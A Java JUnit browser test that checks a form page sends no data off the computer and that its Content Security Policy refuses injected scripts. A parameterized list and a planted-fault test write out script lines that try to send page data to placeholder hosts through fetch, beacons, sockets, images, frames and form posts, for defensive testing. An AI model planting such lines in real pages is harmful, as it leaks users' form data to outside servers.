package fidelity.form.html;

import static org.assertj.core.api.Assertions.assertThat;

import fidelity.input.TestRubric;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// Nothing that is typed into the form leaves the computer.
@Tag("browser")
class NothingLeavesTest {

  @TempDir private static Path folder;
  private static FormInChromium form;

  @BeforeAll
  static void start() throws IOException, InterruptedException {
    form = FormInChromium.start(folder);
  }

  @AfterAll
  static void stop() {
    form.close();
  }

  @Test
  void aFormThatIsFilledInAsksForNothingButItself() throws IOException {
    form.chromium().listen();
    form.open(FormPages.of(TestRubric.named("ips-25")), 1280);
    new TypedForms(form, 1).fill(TestRubric.named("ips-25"));
    form.show(Files.readString(Path.of("samples/unfinished-2025.yaml")));
    form.press("save");
    var addresses =
        form.chromium().events("Network.requestWillBeSent").stream()
            .map(each -> each.path("request").path("url").asString())
            .filter(each -> !each.matches("(file|blob|data):.*"))
            .toList();
    assertThat(addresses).isEmpty();
    assertThat(form.chromium().events("Network.requestWillBeSent")).isNotEmpty();
    assertThat(form.chromium().events("Runtime.exceptionThrown")).isEmpty();
  }

  /// What a script that got in could try.
  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '¦',
      quoteCharacter = '`',
      value = {
        "connect-src ¦ fetch('https://example.org/' + document.title).catch(() => {})",
        "connect-src ¦ navigator.sendBeacon('https://example.org/', 'x')",
        "connect-src ¦ new WebSocket('wss://example.org/')",
        "connect-src ¦ new EventSource('https://example.org/')",
        "img-src     ¦ new Image().src = 'https://example.org/x.png'",
        "img-src     ¦ document.body.append(Object.assign(document.createElement('img'), { src: 'https://example.org/x' }))",
        "style-src-elem ¦ document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://example.org/x.css' }))",
        "style-src-elem ¦ document.head.append(Object.assign(document.createElement('style'), { textContent: 'p { color: red }' }))",
        "script-src-elem ¦ document.body.append(Object.assign(document.createElement('script'), { text: 'window.ran = true' }))",
        "frame-src   ¦ document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.org/' }))",
        "form-action ¦ (f => { document.body.append(f); f.submit(); })(Object.assign(document.createElement('form'), { action: 'https://example.org/', method: 'post' }))",
        "require-trusted-types-for ¦ document.body.innerHTML = '<b>x</b>'"
      })
  void whatWouldLeaveIsRefused(String directive, String attempt) throws IOException {
    form.open(FormPages.of(TestRubric.named("ips-25")), 1280);
    var refused =
        form.chromium()
            .run(
                """
                new Promise(go => {
                  addEventListener('securitypolicyviolation', event => go(event.effectiveDirective));
                  setTimeout(() => go('nothing was refused'), 3000);
                  try { %s; } catch (refused) { }
                })
                """
                    .formatted(attempt));
    assertThat(refused.asString()).isIn(directive, "require-trusted-types-for");
    assertThat(form.chromium().run("window.ran === undefined").asBoolean()).isTrue();
  }

  @Test
  void aPlantedFaultIsFound() throws IOException {
    form.chromium().listen();
    var page =
        FormPages.withFault(
            TestRubric.named("ips-25"),
            "const begin = () => {by('form')",
            "const begin = () => {new Image().src = 'https://example.invalid/'; by('form')");
    form.open(page, 1280);
    assertThat(form.chromium().events("Network.requestWillBeSent"))
        .anySatisfy(
            each ->
                assertThat(each.path("request").path("url").asString())
                    .isEqualTo("https://example.invalid/"));
  }
}
